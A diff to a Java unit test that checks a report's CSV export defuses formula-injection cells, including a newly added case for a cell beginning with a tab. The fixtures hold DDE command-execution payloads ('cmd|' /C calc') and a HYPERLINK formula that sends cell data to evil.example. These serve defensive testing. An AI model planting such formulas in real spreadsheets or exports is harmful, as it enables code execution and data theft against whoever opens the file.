@@ -34,8 +34,9 @@ class ExportSafetyTest {
 				metric("delta", "-2+3 change", -4.0, "%", BetterDirection.HIGHER)));
 		f.run("at", "@SUM(1+1)*cmd|' /C calc'!A0", 2, result("t", "+cmd|' /C calc'!A0",
 				metric("delta", "-2+3 change", 5.0, "%", BetterDirection.HIGHER)));
+		// the drive's label is trimmed (Drives.label), so the tab that must not start a cell is a metric's
 		f.run("tab", "\tTabbed", 3, result("t", "+cmd|' /C calc'!A0", metric("delta", "-2+3 change", 1.0, "%",
-				BetterDirection.HIGHER)));
+				BetterDirection.HIGHER), metric("tab", "\tTabbed figure", 7.0, "%", BetterDirection.NONE)));
 		return new ReportBuilder(NUMBERS).build(Fixtures.report("Safe", "eq", "at", "tab"), f.runs());
 	}
 
@@ -48,12 +49,13 @@ class ExportSafetyTest {
 		}
 		List<String> header = records.get(0).toList();
 		assertEquals(List.of("Test", "Metric", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
-				"'@SUM(1+1)*cmd|' /C calc'!A0", "'\tTabbed", "Best"), header);
+				"'@SUM(1+1)*cmd|' /C calc'!A0", "Tabbed", "Best"), header);
 		List<String> row = records.get(1).toList();
 		assertEquals("'+cmd|' /C calc'!A0", row.get(0));
 		assertEquals("'-2+3 change, % ↑", row.get(1));
 		assertEquals("-4.0", row.get(2), "a figure stays a number a spreadsheet reads");
 		assertEquals("'@SUM(1+1)*cmd|' /C calc'!A0", row.get(5), "the Best column is text too");
+		assertEquals("'\tTabbed figure, %", records.get(2).get(1), "a cell starting with a tab is text");
 		for (CSVRecord r : records) {
 			for (int c = 0; c < r.size(); c++) {
 				String cell = r.get(c);
